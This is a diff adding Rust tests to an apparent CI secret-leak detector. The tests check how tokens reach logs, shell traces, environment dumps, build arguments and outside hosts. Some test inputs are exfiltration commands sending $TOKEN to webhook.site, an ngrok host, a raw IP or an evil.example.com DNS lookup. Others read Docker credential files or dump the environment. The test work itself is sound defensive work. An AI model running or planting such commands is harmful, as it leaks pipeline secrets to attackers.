@@ -22,13 +22,14 @@ fn leaks_of(language: Language, scripts: &[&str]) -> Vec<String> {
             .map(|span| vec![state.secret(script[span.range()].trim_matches(['$', '{', '}', ' ']), place(0, 0), Nature::Masked)])
             .collect();
         let text = Text::plain(script, 0);
-        let code = Code { text: &text, source: SourceId(0), language, opaque: &opaque, holes: &holes };
+        let code = Code { text: &text, source: SourceId(0), language, opaque: &opaque, holes: &holes, trace: None, folder: None };
         let (leaks, _) = state.scoped(|state| follow(&code, state));
         for leak in leaks {
             let origin = state.origin(&leak.taint).unwrap();
             let by = leak.taint.changed_by.as_deref().filter(|_| leak.taint.form == Form::Derived).map(|by| format!(" by {by}"));
             let fetched = if origin.nature == Nature::Fetched { " fetched" } else { "" };
-            shown.push(format!("{}{}{fetched} at {}", origin.name, by.unwrap_or_default(), &script[leak.taint.at.span.range()]));
+            let reach = if leak.reach == Reach::Log { String::new() } else { format!("{:?}: ", leak.reach) };
+            shown.push(format!("{reach}{}{}{fetched} at {}", origin.name, by.unwrap_or_default(), &script[leak.taint.at.span.range()]));
         }
     }
     shown
@@ -66,6 +67,9 @@ fn what_is_printed_leaks() {
         ("printenv TOKEN", "TOKEN at printenv TOKEN"),
         ("printf -v x %s $TOKEN; echo $x", "TOKEN at $x"),
         ("echo $TOKEN > f; cat f", "TOKEN at cat f"),
+        ("echo $TOKEN > f; cp f g; cat ./g", "TOKEN at cat ./g"),
+        ("echo $TOKEN > f; grep x f", "TOKEN at grep x f"),
+        ("a=($TOKEN b); echo \"${a[@]}\"", "TOKEN at ${a[@]}"),
         ("cat <(echo $TOKEN)", "TOKEN at $TOKEN"),
         ("jq -n --arg p \"$TOKEN\" '{$p}'", "TOKEN at $TOKEN"),
         ("(echo $TOKEN) 2>/dev/null", "TOKEN at $TOKEN"),
@@ -122,16 +126,207 @@ fn what_is_fetched_is_unknown_to_the_platform() {
 }
 
 #[test]
-fn functions_print_what_they_are_given() {
+fn functions_do_what_they_do_when_they_are_called() {
     for (script, leak) in [
         ("log() { echo \"[x] $1\"; }\nlog \"token $TOKEN\"", "TOKEN at $TOKEN"),
         ("function say { if true; then printf '%s' \"$*\"; fi; }\nsay a $TOKEN", "TOKEN at $TOKEN"),
         ("log() { echo \"$2\"; }\nlog $TOKEN $KEY", "KEY at $KEY"),
+        ("main() { show; }\nshow() { echo $TOKEN; }\nmain \"$@\"", "TOKEN at $TOKEN"),
+        ("log() { echo \"$1\" >&2; }\nX=$(log $TOKEN)", "TOKEN at $TOKEN"),
+        ("show() { while read -r l; do echo \"$l\"; done; }\necho $TOKEN | show", "TOKEN at $l"),
+        ("get() { X=$TOKEN; }\nget\necho $X", "TOKEN at $X"),
+        ("log() { shift; echo \"$1\"; }\nlog info $TOKEN", "TOKEN at $TOKEN"),
+        ("part() { echo \"$1\" | cut -c1-4; }\nX=$(part $TOKEN)\necho $X", "TOKEN by cut at $X"),
+        ("f() { g; }\ng() { f; echo $TOKEN; }\nf", "TOKEN at $TOKEN"),
         ("log() { echo \"$1\" > f; }\nlog $TOKEN", ""),
         ("log() { curl -d \"$1\" u; }\nlog $TOKEN", ""),
         ("log() { echo \"$1\"; }\nX=$(log $TOKEN)", ""),
+        ("log() { echo \"$1\"; }\nlog $TOKEN > f", ""),
+        ("debug() { echo $TOKEN; }", ""),
+        ("log() { M=$(echo \"$1\"); echo \"$M\"; }\nX=$(log $TOKEN)\nlog hello", ""),
     ] {
         assert_eq!(shell(script), leak, "{script}");
+    }
+}
+
+#[test]
+fn tracing_prints_what_is_expanded() {
+    for (script, leak) in [
+        ("set -x\ncurl -H \"a: $TOKEN\" u", "Trace: TOKEN at set -x"),
+        ("set -euxo pipefail\ncmd $TOKEN", "Trace: TOKEN at set -euxo pipefail"),
+        ("set -o xtrace; X=$TOKEN", "Trace: TOKEN at set -o xtrace"),
+        ("set -x\nX=$(echo $TOKEN | cut -c1-4)", "Trace: TOKEN at set -x; Trace: TOKEN by cut at set -x"),
+        ("bash -xc 'cmd $TOKEN'", "Trace: TOKEN at bash -xc 'cmd $TOKEN'"),
+        ("bash -x ./unknown.sh", "Trace: KEY at bash -x ./unknown.sh"),
+        ("f() { cmd $TOKEN; }\nset -x\nf", "Trace: TOKEN at set -x"),
+        ("set -v\ncmd ${{ X }}", "Trace: X at set -v"),
+        ("set -v\ncmd $TOKEN", ""),
+        ("set -x\necho hello\nset +x\ncmd $TOKEN", ""),
+        ("(set -x; make)\ncmd $TOKEN", ""),
+        ("cmd $TOKEN\nset -x\nmake", ""),
+        ("set -e\ncmd $TOKEN", ""),
+        ("set -- -x\ncmd $TOKEN", ""),
+        ("PS4='+ '\ncmd $TOKEN", ""),
+        ("{ set -x; cmd $TOKEN; } 2>/dev/null", ""),
+    ] {
+        assert_eq!(shell(script), leak, "{script}");
+    }
+}
+
+#[test]
+fn dumps_print_everything() {
+    for (script, leak) in [
+        ("env", "Dump: KEY at env"),
+        ("printenv | sort", "Dump: KEY at printenv"),
+        ("set", "Dump: KEY at set"),
+        ("export -p", "Dump: KEY at export -p"),
+        ("declare -p", "Dump: KEY at declare -p"),
+        ("env | grep -v PATH", "Dump: KEY at env"),
+        ("env | grep TOKEN", "Dump: TOKEN at env"),
+        ("env | grep ^GITHUB_", ""),
+        ("env | cut -d= -f1", ""),
+        ("env > f", ""),
+        ("env FOO=bar cmd", ""),
+        ("env -i cmd", ""),
+        ("printenv PATH", ""),
+        ("set -e", ""),
+        ("X=$(env)", ""),
+        ("docker compose config", "Dump: KEY at docker compose config"),
+        ("docker compose config --quiet", ""),
+        ("terraform output -json", "Dump: KEY at terraform output -json"),
+        ("terraform output -json vpc_id", ""),
+        ("cat ~/.docker/config.json", "Dump: KEY at cat ~/.docker/config.json"),
+        ("cat README.md", ""),
+    ] {
+        assert_eq!(shell(script), leak, "{script}");
+    }
+    let powershell = |script: &str| leaks_of(Language::Shell(Dialect::PowerShell), &[script]).join("; ");
+    assert_eq!(powershell("Get-ChildItem env:"), "Dump: KEY at Get-ChildItem env:");
+    assert_eq!(powershell("gci env:PATH"), "");
+}
+
+#[test]
+fn arguments_that_others_see() {
+    for (script, leak) in [
+        ("docker build --build-arg NPM=$TOKEN .", "BuildArgument: TOKEN at $TOKEN"),
+        ("docker build --build-arg TOKEN .", "BuildArgument: TOKEN at TOKEN"),
+        ("docker build --build-arg=A=\"$TOKEN\" .", "BuildArgument: TOKEN at $TOKEN"),
+        ("docker buildx bake --set *.args.T=$TOKEN", "BuildArgument: TOKEN at $TOKEN"),
+        ("docker build --secret id=t,env=TOKEN .", ""),
+        ("docker build --build-arg VERSION=1 .", ""),
+        ("docker login -u me -p $TOKEN ghcr.io", "Argument: TOKEN at $TOKEN"),
+        ("git clone https://x:$TOKEN@github.com/a/b", "Argument: TOKEN at $TOKEN"),
+        ("mysql -uroot -p$TOKEN", "Argument: TOKEN at $TOKEN"),
+        ("helm upgrade a b --set db.password=$TOKEN", "Argument: TOKEN at $TOKEN"),
+        ("helm upgrade a b --set image.tag=$TOKEN", ""),
+        ("kubectl create secret generic a --from-literal=token=$TOKEN", "Argument: TOKEN at $TOKEN"),
+        ("echo $TOKEN | docker login -u me --password-stdin", ""),
+        ("curl -v -H \"Authorization: Bearer $TOKEN\" u", "Verbose: TOKEN at $TOKEN"),
+        ("curl -sv -u me:$TOKEN u", "Verbose: TOKEN at $TOKEN"),
+        ("curl -H \"Authorization: Bearer $TOKEN\" u", ""),
+        ("curl -d \"t=$TOKEN\" https://webhook.site/x", "Collector: TOKEN at $TOKEN"),
+        ("echo $TOKEN | curl -d @- https://abc.ngrok.io", "Collector: TOKEN at $TOKEN"),
+        ("curl http://203.0.113.7/$TOKEN", "Collector: TOKEN at $TOKEN"),
+        ("dig $TOKEN.evil.example.com", "Collector: TOKEN at $TOKEN"),
+        ("curl -d \"t=$TOKEN\" http://localhost:8080", ""),
+        ("curl -d \"t=$TOKEN\" https://collect.example.com/x", "Host: TOKEN at $TOKEN"),
+        ("gh pr comment 1 --body \"t $TOKEN\"", "Comment: TOKEN at $TOKEN"),
+        ("gh secret set X --body \"$TOKEN\"", ""),
+        ("echo $TOKEN >> $GITHUB_STEP_SUMMARY", "Summary: TOKEN at $TOKEN"),
+    ] {
+        assert_eq!(shell(script), leak, "{script}");
+    }
+}
+
+#[test]
+fn masks_that_come_too_late_and_fields_that_get_none() {
+    for (script, leak) in [
+        (
+            "P=$(vault kv get -field=p x)\necho $P\necho \"::add-mask::$P\"",
+            "vault kv get fetched at $P; LateMask: vault kv get fetched at $P",
+        ),
+        ("P=$(vault kv get -field=p x)\necho \"p=$P\" >> $GITHUB_OUTPUT\necho \"::add-mask::$P\"", "LateMask: vault kv get fetched at $P"),
+        ("echo $TOKEN > f; echo \"::add-mask::$TOKEN\"", ""),
+    ] {
+        assert_eq!(shell(script), leak, "{script}");
+    }
+    let mut state = State::default();
+    let taint = state.secret("TOKEN", place(0, 0), Nature::Masked);
+    state.bind("TOKEN", vec![taint]);
+    let fields = |script: &str, state: &mut State| {
+        let text = Text::plain(script, 0);
+        let code = Code {
+            text: &text,
+            source: SourceId(0),
+            language: Language::Shell(Dialect::Posix),
+            opaque: &[],
+            holes: &[],
+            trace: None,
+            folder: None,
+        };
+        follow(&code, state);
+        let fields = state.take_fields();
+        fields.iter().filter(|leak| state.is_open(&leak.taint)).count()
+    };
+    assert_eq!(fields("P=$(echo $TOKEN | jq -r .p)", &mut state), 1);
+    assert_eq!(fields("P=$(jq -r .p <<< $TOKEN)\necho \"::add-mask::$P\"", &mut state), 0);
+    assert_eq!(fields("P=$(echo $TOKEN | cut -c1)", &mut state), 0);
+}
+
+/// A repository in memory.
+struct Files(Vec<(&'static str, &'static str)>);
+
+impl crate::formats::Tree for Files {
+    fn read(&self, path: &str) -> Option<Arc<crate::source::Source>> {
+        let at = self.0.iter().position(|(name, _)| *name == path)?;
+        let id = SourceId(at as u32 + 1);
+        Some(Arc::new(crate::source::Source { id, text: self.0[at].1.to_owned(), path: path.to_owned(), ..Default::default() }))
+    }
+
+    fn list(&self, _: &str) -> Vec<String> {
+        Vec::new()
+    }
+}
+
+#[test]
+fn scripts_of_the_repository_are_read() {
+    let files = Files(vec![
+        ("ci/print.sh", "#!/bin/bash\necho \"$TOKEN $1\""),
+        ("ci/lib.sh", "show() { echo \"$1\"; }\nX=$TOKEN"),
+        ("ci/trace.sh", "#!/bin/bash -x\ncmd \"$TOKEN\""),
+        ("ci/print.py", "import os\nprint(os.environ['TOKEN'])"),
+        ("ci/loop.sh", "ci/loop.sh; bash ci/loop.sh; echo $TOKEN"),
+    ]);
+    for (script, leak) in [
+        ("./ci/print.sh", "Log at ./ci/print.sh in 1"),
+        ("bash ci/print.sh", "Log at bash ci/print.sh in 1"),
+        ("sh ci/print.sh > f", ""),
+        ("X=$(ci/print.sh)", ""),
+        (". ci/lib.sh\necho $X", "Log at $X in 0"),
+        ("bash ci/lib.sh\necho $X", ""),
+        ("ci/trace.sh", "Trace at ci/trace.sh in 3"),
+        ("python3 ci/print.py", "Log at python3 ci/print.py in 4"),
+        ("bash ci/loop.sh", "Log at bash ci/loop.sh in 5"),
+        ("bash ci/missing.sh", ""),
+    ] {
+        let mut state = State::default();
+        let taint = state.secret("TOKEN", place(0, 0), Nature::Masked);
+        state.bind("TOKEN", vec![taint]);
+        let text = Text::plain(script, 0);
+        let folder = Some(Folder { tree: &files, path: "" });
+        let code = Code {
+            text: &text,
+            source: SourceId(0),
+            language: Language::Shell(Dialect::Posix),
+            opaque: &[],
+            holes: &[],
+            trace: None,
+            folder,
+        };
+        let leaks = follow(&code, &mut state);
+        let shown =
+            leaks.first().map(|leak| format!("{:?} at {} in {}", leak.reach, &script[leak.taint.at.span.range()], leak.sink.source.0));
+        assert_eq!(shown.unwrap_or_default(), leak, "{script}");
     }
 }
 
@@ -153,6 +348,18 @@ fn scripts_inside_scripts() {
         ("bash -c 'echo $TOKEN' > f", ""),
         ("x=$(python -c \"print('$TOKEN')\")", ""),
         ("bash script.sh $TOKEN", ""),
+        ("eval echo \\$TOKEN", "TOKEN at \\$TOKEN"),
+        ("trap 'echo $TOKEN' EXIT", "TOKEN at $TOKEN"),
+        ("bye() { echo $TOKEN; }\ntrap bye EXIT", "TOKEN at $TOKEN"),
+        ("trap - EXIT", ""),
+        ("echo $TOKEN | xargs -n1 echo", "TOKEN at $TOKEN"),
+        ("echo $TOKEN | xargs -I{} sh -c 'echo {}'", "TOKEN at $TOKEN"),
+        ("echo $TOKEN | xargs sh -c 'echo \"$0 $1\"' _", "TOKEN at $TOKEN"),
+        ("docker exec c sh -c \"echo $TOKEN\"", "TOKEN at $TOKEN"),
+        ("docker exec c sh -c 'echo $TOKEN'", ""),
+        ("ssh host 'echo $TOKEN'", ""),
+        ("ssh -i key host echo $TOKEN", "TOKEN at $TOKEN"),
+        ("bash -c 'echo $1' _ $TOKEN", "TOKEN at $TOKEN"),
         ("bash -c 'curl -H \"$TOKEN\" u'", ""),
     ] {
         assert_eq!(shell(script), leak, "{script}");
@@ -269,6 +476,8 @@ fn later_scripts_see_what_was_exported() {
     let posix = Language::Shell(Dialect::Posix);
     assert_eq!(leaks_of(posix, &["echo \"X=${{ Y }}\" >> $GITHUB_ENV", "echo $X"]), ["Y at $X"]);
     assert_eq!(leaks_of(posix, &["X=${{ Y }}", "echo $X"]), Vec::<String>::new());
+    assert_eq!(leaks_of(posix, &["{ echo 'X<<EOF'; echo \"${{ Y }}\"; echo EOF; } >> $GITHUB_ENV", "echo $X"]), ["Y at $X"]);
+    assert_eq!(leaks_of(posix, &["cat <<EOF >> $GITHUB_ENV\nA=1\nX=${{ Y }}\nEOF", "echo $A $X"]), ["Y at $X"]);
 }
 
 #[test]
@@ -290,7 +499,7 @@ fn leaks_of_any(language: Language, script: &str) {
     let taint = state.secret("TOKEN", place(0, 0), Nature::Masked);
     state.bind("TOKEN", vec![taint]);
     let text = Text::plain(script, 0);
-    let code = Code { text: &text, source: SourceId(0), language, opaque: &[], holes: &[] };
+    let code = Code { text: &text, source: SourceId(0), language, opaque: &[], holes: &[], trace: None, folder: None };
     for leak in follow(&code, &mut state) {
         assert!(script.get(leak.taint.at.span.range()).is_some() && script.get(leak.sink.span.range()).is_some());
     }
